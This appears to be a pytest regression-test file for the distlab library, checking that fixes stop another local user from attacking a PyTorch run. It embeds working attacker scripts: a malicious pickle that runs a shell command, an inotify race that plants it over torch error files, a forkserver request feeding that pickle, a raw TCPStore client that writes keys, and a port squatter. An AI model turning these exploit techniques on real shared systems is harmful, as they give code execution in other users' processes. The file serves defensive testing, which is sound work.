"""Another local user against the channels outside the run folders (issue #24), with a real second
account (see ``second_user.py``). Each attack here worked against distlab before the fix:

* torch's error files: ``pytorch-errorfile-*.pickle`` named in the shared temp dir, unlinked, and
  unpickled by the launching process when a rank fails. The attacker re-creates every such name
  the moment it is unlinked (inotify), with a pickle that runs a command;
* the forkserver: whoever connects has it fork a child that unpickles what they send;
* the loopback stores: a TCPStore client connected to distlab's store and read/wrote its keys;
* a squatter on the article's fixed MASTER_PORT: the other ranks would join their store;
* debris: ``pymp-*`` and warm ranks' folders left in the shared temp dir after a SIGKILL.

The attacker's programs use the standard library only (the second user has no torch).
"""
import os
import signal
import socket
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import psutil
import pytest
from fake_kernel import run_cells
from second_user import as_other, other_python, start_as_other, stop_other, write_readable

import distlab
from distlab.folders import private, runfolder
from distlab.forkserver import client as forkserver

pytestmark = pytest.mark.slow

CELLS = run_cells(
    """
    import time
    import torch.distributed as dist
    """,
    """
    def fails(rank):
        dist.init_process_group("gloo")
        raise ValueError(f"rank {rank} fails on purpose")
    """,
    """
    def hangs(rank):
        dist.init_process_group("gloo")
        time.sleep(600)
    """,
    """
    def ok(rank):
        dist.init_process_group("gloo")
        dist.barrier()
        dist.destroy_process_group()
        return rank
    """,
    """
    def waits(rank, seconds):
        dist.init_process_group("gloo")
        dist.barrier()
        time.sleep(seconds)
        dist.destroy_process_group()
        return rank
    """,
    """
    def own_port(rank, port):
        import os
        if rank == 0:
            time.sleep(3)  # rank 1 looks at the port first (rank 0's bind would fail anyway)
        os.environ["MASTER_ADDR"], os.environ["MASTER_PORT"] = "localhost", str(port)
        dist.init_process_group("gloo", rank=rank, world_size=2)
        return rank
    """,
)

EVIL = """
import os, pickle, sys

class Evil:
    def __reduce__(self):
        return (os.system, ("touch " + sys.argv[2],))
"""

PLANTER = EVIL + """
import ctypes, select, struct
# inotify: re-create every *.pickle name the moment it is unlinked, with a pickle that runs a command
watched, payload = sys.argv[1], pickle.dumps(Evil())
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init1(os.O_NONBLOCK)
assert libc.inotify_add_watch(fd, watched.encode(), 0x100 | 0x200) >= 0  # IN_CREATE | IN_DELETE
print("READY", flush=True)
while True:
    select.select([fd], [], [], 1.0)
    try:
        data = os.read(fd, 65536)
    except BlockingIOError:
        continue
    i = 0
    while i < len(data):
        wd, mask, cookie, length = struct.unpack_from("iIII", data, i)
        name = data[i + 16:i + 16 + length].rstrip(b"\\0").decode()
        i += 16 + length
        if name.endswith(".pickle"):
            print("SEEN", name, flush=True)
            if mask & 0x200:
                try:
                    with open(os.path.join(watched, name), "wb") as f:
                        f.write(payload)
                    os.chmod(os.path.join(watched, name), 0o644)
                    print("PLANTED", name, flush=True)
                except OSError as e:
                    print("COULD NOT PLANT", name, e, flush=True)
"""

FORK_REQUEST = EVIL + """
import socket
from multiprocessing import reduction
# ask a multiprocessing forkserver for a child, and feed it a pickle that runs a command
s = socket.socket(socket.AF_UNIX)
s.connect(sys.argv[1])
child_r, parent_w = os.pipe()
fds = [child_r] + [os.pipe()[1] for _ in range(3)]
try:
    reduction.sendfds(s, fds)
    os.write(parent_w, pickle.dumps(Evil()))
    os.close(parent_w)
    s.settimeout(5)
    print("SERVER SAID", s.recv(16), flush=True)
except OSError as e:
    print("REFUSED", e, flush=True)
"""

STORE_PROBE = """
import socket, struct, sys
# a TCPStore client (torch's wire protocol): validate, set a key, read it back (torch's own
# clients prefix every key with "/")
VALIDATE, SET, GET, MAGIC = 0, 1, 3, 0x3C85F7CE

def blob(b):
    return struct.pack("<Q", len(b)) + b

for port in map(int, sys.argv[1:]):
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=3)
        s.sendall(bytes([VALIDATE]) + struct.pack("<I", MAGIC))
        s.sendall(bytes([SET]) + blob(b"/intruder") + blob(b"was here"))
        s.sendall(bytes([GET]) + blob(b"/intruder"))
        data = b""
        while len(data) < 8 + 8:
            chunk = s.recv(64)
            if not chunk:
                break
            data += chunk
        accepted = data[8:16] == b"was here"
        print("ACCEPTED" if accepted else "REFUSED", port, data[:32], flush=True)
    except OSError as e:
        print("REFUSED", port, e, flush=True)
"""

SQUATTER = """
import socket, sys, time
s = socket.socket()
s.bind(("127.0.0.1", int(sys.argv[1])))
s.listen()
s.settimeout(0.2)
print("READY", flush=True)
end = time.time() + float(sys.argv[2])
while time.time() < end:
    try:
        s.accept()[0].close()
        print("CONNECTED", flush=True)
    except OSError:
        pass
"""


@pytest.fixture
def attacker_files(readable_src):
    """The attacker's programs, readable by the other user."""
    return {name: write_readable(readable_src, f"{name}.py", textwrap.dedent(text))
            for name, text in (("planter", PLANTER), ("fork_request", FORK_REQUEST), ("store_probe", STORE_PROBE),
                               ("squatter", SQUATTER))}


def wait_for_line(proc: subprocess.Popen, word: str, timeout: float = 30) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        line = proc.stdout.readline()
        if line.startswith(word):
            return
        if not line and proc.poll() is not None:
            raise AssertionError(f"the attacker stopped: {proc.stderr.read()}")
    raise AssertionError(f"the attacker never said {word}")


@pytest.mark.parametrize("start", ["forkserver", "spawn"])
def test_no_pickle_of_another_user_is_ever_loaded_by_the_kernel(other_user, shared_tmp, attacker_files, start):
    """A failing run and a timed-out run, with the attacker planting a pickle at every ``*.pickle``
    name unlinked in the shared temp dir: nothing of theirs runs, and they see no such name."""
    marker = shared_tmp / "their-code-ran"
    planter = start_as_other(f"{other_python()} {attacker_files['planter']} {shared_tmp} {marker}")
    try:
        wait_for_line(planter, "READY")
        with pytest.raises(distlab.WorkerFailedError, match="fails on purpose"):
            distlab.spawn(CELLS["fails"], nprocs=2, view=None, start=start)
        with pytest.raises(distlab.WorkerTimeoutError):
            distlab.spawn(CELLS["hangs"], nprocs=2, view=None, start=start, timeout=3)
        time.sleep(1.0)
    finally:
        seen = stop_other(planter)
    assert not marker.exists(), "the kernel ran the other user's pickle"
    assert "SEEN" not in seen, f"a pickle file of ours was named in the shared temp dir:\n{seen}"
    assert not list(shared_tmp.glob("pytorch-errorfile-*")) and not list(shared_tmp.glob("pymp-*"))


def test_the_forkserver_serves_only_your_own_uid(other_user, shared_tmp, attacker_files):
    """The server's socket, made reachable on purpose (as an abstract socket of CPython 3.11.0 was):
    another user's fork request is refused before anything they sent is read, and the server goes on."""
    assert distlab.spawn(CELLS["ok"], nprocs=2, view=None, start="forkserver").returns == {0: 0, 1: 1}
    server, address = forkserver.server_pid(), forkserver._SERVER._forkserver_address
    door = shared_tmp / "door.sock"
    os.link(address, door)  # the same socket, by a name the other user can reach
    os.chmod(door, 0o777)
    marker = shared_tmp / "their-code-ran"
    out = as_other(f"{other_python()} {attacker_files['fork_request']} {door} {marker}")
    time.sleep(2.0)
    assert not marker.exists(), f"the forkserver ran the other user's pickle: {out.stdout}{out.stderr}"
    assert "SERVER SAID" not in out.stdout or "b''" in out.stdout, out.stdout  # no pid came back
    assert distlab.spawn(CELLS["ok"], nprocs=2, view=None, start="forkserver").returns == {0: 0, 1: 1}
    assert forkserver.server_pid() == server  # still the same server, still serving you


def test_a_forkserver_with_an_abstract_socket_is_refused_once_with_its_reason(monkeypatch):
    from distlab.forkserver import elastic as forklaunch
    from distlab.forkserver import peercred

    monkeypatch.setattr(forklaunch, "_REFUSAL_SAID", [])
    reason = peercred.abstract_socket_reason("\0listener-1")  # what CPython 3.11.0 would give
    monkeypatch.setattr(peercred, "abstract_socket_reason", lambda: reason)
    # such a Python never had a server running: a running one (from an earlier test) is not asked again
    monkeypatch.setattr(forkserver, "_running", lambda pid: False)
    with pytest.warns(RuntimeWarning, match=r"not using a forkserver \(this Python .* abstract namespace, which any "
                                            r"local user can connect to \(CVE-2022-42919\)\)"):
        first = distlab.spawn(CELLS["ok"], nprocs=2, view=None, start="forkserver")
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("error")  # said once: the second launch is quiet
        second = distlab.spawn(CELLS["ok"], nprocs=2, view=None)
    assert first.returns == second.returns == {0: 0, 1: 1}


def listening_ports(pids) -> set[int]:
    ports = set()
    for pid in pids:
        try:
            found = psutil.Process(pid).net_connections("inet")
            ports |= {c.laddr.port for c in found if c.status == psutil.CONN_LISTEN}
        except psutil.Error:
            pass
    return ports


def our_processes() -> set[int]:
    me = psutil.Process()
    pids = {me.pid, *(p.pid for p in me.children(recursive=True))}
    server = forkserver.server_pid()
    if server:
        pids |= {server, *(p.pid for p in psutil.Process(server).children(recursive=True))}
    return pids


def test_no_loopback_port_of_a_run_or_of_warm_ranks_answers_a_store_client(other_user, shared_tmp, attacker_files):
    from datetime import timedelta

    from distlab.rendezvous.loopback import loopback_store

    probe = f"{other_python()} {attacker_files['store_probe']}"
    control = loopback_store(0, 1, timedelta(seconds=30), wait_for_workers=False)  # a store that does answer
    out = as_other(f"{probe} {control.port}").stdout
    assert f"ACCEPTED {control.port}" in out, f"the probe cannot talk to a real TCPStore: {out}"
    assert control.get("intruder") == b"was here"
    del control

    live = distlab.spawn(CELLS["waits"], args=(8,), nprocs=2, view=None, join=False)
    with distlab.Ranks(2) as ranks:
        deadline = time.monotonic() + 60
        while len(ranks.pids) < 2 or len(live_ranks := [p for p in our_processes() if p != os.getpid()]) < 4:
            assert time.monotonic() < deadline, "the run's ranks never started"
            time.sleep(0.2)
        time.sleep(2.0)  # the live run's ranks have met (barrier) and wait
        ports = listening_ports(our_processes())
        out = as_other(f"{probe} {' '.join(map(str, sorted(ports)))}", timeout=120).stdout if ports else ""
        assert ranks.exec("t = torch.ones(1); dist.all_reduce(t); t.item()") == {0: 2.0, 1: 2.0}
    assert live.join(timeout=120).returns == {0: 0, 1: 1}
    assert "ACCEPTED" not in out, f"a store of ours answered another user:\n{out}"
    assert len(live_ranks) >= 4


def test_a_squatter_on_a_fixed_master_port_is_named_before_any_rank_joins(other_user, shared_tmp, attacker_files):
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    squatter = start_as_other(f"{other_python()} {attacker_files['squatter']} {port} 20")
    try:
        wait_for_line(squatter, "READY")
        with pytest.raises(distlab.WorkerFailedError) as failed:
            distlab.spawn(CELLS["own_port"], args=(port,), nprocs=2, view=None, timeout=60)
    finally:
        out = stop_other(squatter)
    assert failed.value.rank == 1
    assert f"rank 1 will not join the store on 127.0.0.1:{port}: another user (uid {other_user.pw_uid})" in str(
        failed.value)
    assert "CONNECTED" not in out  # no rank connected to the squatter


KERNEL = """
import sys, time
import distlab
from fake_kernel import run_cells
cells = run_cells('''
def ok(rank):
    import torch.distributed as dist
    dist.init_process_group("gloo")
    dist.barrier()
    return rank
''')
distlab.spawn(cells["ok"], nprocs=2, view=None, start="forkserver")
ranks = distlab.Ranks(2)
print("READY", flush=True)
time.sleep(600)
"""


def test_a_killed_kernel_leaves_nothing_in_the_shared_temp_dir(shared_tmp):
    env = {**os.environ, "TMPDIR": str(shared_tmp), "PYTHONPATH": os.pathsep.join(
        [str(Path(__file__).parent), *sys.path])}
    env.pop("DISTLAB_RUNS", None)
    env.pop("XDG_RUNTIME_DIR", None)
    kernel = subprocess.Popen([sys.executable, "-c", KERNEL], env=env, stdout=subprocess.PIPE, text=True)
    try:
        assert kernel.stdout.readline().startswith("READY")
        descendants = psutil.Process(kernel.pid).children(recursive=True)
        kernel.send_signal(signal.SIGKILL)
        kernel.wait()
        psutil.wait_procs(descendants, timeout=30)
    finally:
        if kernel.poll() is None:
            kernel.kill()
    root = shared_tmp / f"distlab-{os.getuid()}"
    assert sorted(p.name for p in shared_tmp.iterdir() if p.name != "root-cache") == [root.name]
    stale = [p for p in root.iterdir() if p.name.startswith(private.PREFIX)]
    assert stale and all(p.name.startswith(private.folder_prefix(kernel.pid)) for p in stale)  # the dead kernel's
    runfolder._LAST_PRUNE.clear()
    runfolder.RunFolder.create("next")  # the next run's pruning removes the dead kernel's folder
    assert not any(p.exists() for p in stale)
